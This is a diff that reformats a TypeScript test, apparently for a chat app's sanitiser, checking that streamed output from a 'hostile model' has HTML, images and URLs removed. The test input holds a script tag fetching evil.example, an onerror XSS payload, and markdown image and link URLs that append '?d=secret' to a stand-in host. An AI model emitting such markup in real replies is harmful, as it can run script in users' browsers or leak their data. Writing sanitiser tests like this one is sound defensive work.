@@ -26,19 +26,16 @@ const storedAnswer = async (sessionId: string) =>
   };
 
 describe('output of a hostile model', () => {
-  it.each([1, 7, 1_000])(
-    'has no HTML, images and URLs, in chunks of %i',
-    async (charactersPerChunk) => {
-      const content =
-        'Fine <script>fetch("https://evil.example")</script><img src=x onerror=alert(1)> people. ' +
-        '![p](https://evil.example/p.png?d=secret) See [details](https://evil.example/?d=secret) or www.evil.example';
-      model.reply([{ content, charactersPerChunk }]);
-      const { text, done } = await ask('How are they?');
-      expect(text).not.toMatch(/<|evil|\]\(|!\[/);
-      expect(text).toContain('See details or (link removed)');
-      expect((await storedAnswer(done.session_id)).content).toBe(text);
-    },
-  );
+  it.each([1, 7, 1_000])('has no HTML, images and URLs, in chunks of %i', async (charactersPerChunk) => {
+    const content =
+      'Fine <script>fetch("https://evil.example")</script><img src=x onerror=alert(1)> people. ' +
+      '![p](https://evil.example/p.png?d=secret) See [details](https://evil.example/?d=secret) or www.evil.example';
+    model.reply([{ content, charactersPerChunk }]);
+    const { text, done } = await ask('How are they?');
+    expect(text).not.toMatch(/<|evil|\]\(|!\[/);
+    expect(text).toContain('See details or (link removed)');
+    expect((await storedAnswer(done.session_id)).content).toBe(text);
+  });
 
   it.each([1, 1_000])('has its unsupported numbers marked, in chunks of %i', async (charactersPerChunk) => {
     model.reply([
